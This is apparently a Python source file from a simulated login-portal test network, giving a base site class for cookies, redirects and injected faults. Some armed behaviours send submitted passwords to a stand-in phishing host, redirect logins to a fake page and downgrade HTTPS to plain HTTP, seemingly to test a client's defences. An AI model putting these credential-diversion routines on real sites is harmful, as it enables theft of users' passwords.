"""Base of all sites of the network: cookies, redirects, errors."""

from abc import ABC, abstractmethod
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, ClassVar

from aiohttp import web
from yarl import URL

from . import pages
from .accounts import PortalAccount
from .registry import PHISHING_HOST

if TYPE_CHECKING:
    from .portal import Portal

PASSWORD_FIELDS = ("password", "j_password")


@dataclass(slots=True, eq=False)
class BrowserState:
    """State of one browser on a site."""

    cookie: str
    account: PortalAccount | None = None
    notes: dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True, slots=True)
class RequestContext:
    """Request of a browser. `returning` is true if it contained the site's cookie."""

    request: web.Request
    form: Mapping[str, str]
    browser_state: BrowserState
    returning: bool

    @property
    def query(self) -> Mapping[str, str]:
        return self.request.query

    @property
    def path(self) -> str:
        return self.request.path

    def param(self, name: str) -> str:
        return self.form.get(name) or self.query.get(name, "")


type Handler = Callable[[RequestContext], web.Response]
type AiohttpHandler = Callable[[web.Request], Awaitable[web.StreamResponse]]


class Site(ABC):
    """Server of one host name."""

    cookie: ClassVar[str] = "JSESSIONID"
    cookie_path: ClassVar[str] = "/"
    cookie_domain: ClassVar[str | None] = None

    def __init__(self, portal: Portal, host: str) -> None:
        self.portal = portal
        self.host = host
        self.browser_states: dict[str, BrowserState] = {}

    @abstractmethod
    def routes(self) -> list[web.RouteDef]:
        """Return the routes of the server."""

    def get(self, path: str, handler: Handler) -> web.RouteDef:
        return web.get(path, self._wrap(handler))

    def post(self, path: str, handler: Handler) -> web.RouteDef:
        return web.post(path, self._wrap(handler))

    def absolute(self, path: str) -> str:
        return f"https://{self.host}{path}"

    def redirect_to(self, url: str) -> web.Response:
        """Redirect a browser in the way that is armed."""
        if self.portal.take_behavior("meta_refresh", self.host):
            return pages.meta_refresh(url)
        if self.portal.take_behavior("script_redirect", self.host):
            return pages.script_redirect(url)
        return pages.redirect(url)

    def action(self, path: str) -> str:
        """Return the address to which a password form is submitted."""
        if self.portal.take_behavior("foreign_form", self.host):
            return f"https://{PHISHING_HOST}/collecte"
        if self.portal.take_behavior("plain_form", self.host):
            return f"http://{self.host}{path}"
        return path

    def _wrap(self, handler: Handler) -> AiohttpHandler:
        async def respond(request: web.Request) -> web.StreamResponse:
            form = {name: str(value) for name, value in (await request.post()).items()}
            browser_state = self.browser_states.get(
                request.cookies.get(self.cookie, "")
            )
            returning = browser_state is not None
            if browser_state is None:
                browser_state = BrowserState(self.portal.secret())
                self.browser_states[browser_state.cookie] = browser_state
            context = RequestContext(request, form, browser_state, returning)
            answer = self._armed_failure(context) or handler(context)
            if not returning:
                self._give_cookie(answer, self.cookie, browser_state.cookie)
            return answer

        return respond

    def _give_cookie(self, answer: web.Response, name: str, value: str) -> None:
        answer.set_cookie(
            name,
            value,
            path=self.cookie_path,
            domain=self.cookie_domain,
            secure=not self.portal.allows_plain,
            httponly=True,
        )

    def _armed_failure(self, context: RequestContext) -> web.Response | None:
        take_behavior, host, request = (
            self.portal.take_behavior,
            self.host,
            context.request,
        )
        if take_behavior("cut", host):
            if request.transport is not None:
                request.transport.abort()
            return web.Response()
        if take_behavior("down", host):
            return pages.say("503", "Service temporairement indisponible", 503)
        if take_behavior("redirect_loop", host):
            turn = int(request.query.get("tour", "0")) + 1
            return pages.redirect(str(request.rel_url.update_query(tour=str(turn))))
        if take_behavior("page_changed", host):
            return pages.application()
        if any(context.form.get(name) for name in PASSWORD_FIELDS):
            if take_behavior("foreign_redirect", host):
                return web.Response(
                    status=307,
                    headers={"Location": f"https://{PHISHING_HOST}/collecte"},
                )
        elif request.method == "GET":
            if take_behavior("foreign_page", host):
                target = URL(f"https://{PHISHING_HOST}/login").with_query(request.query)
                return pages.redirect(str(target))
            if request.secure and take_behavior("plain_page", host):
                return pages.redirect(f"http://{host}{request.path_qs}")
        return None
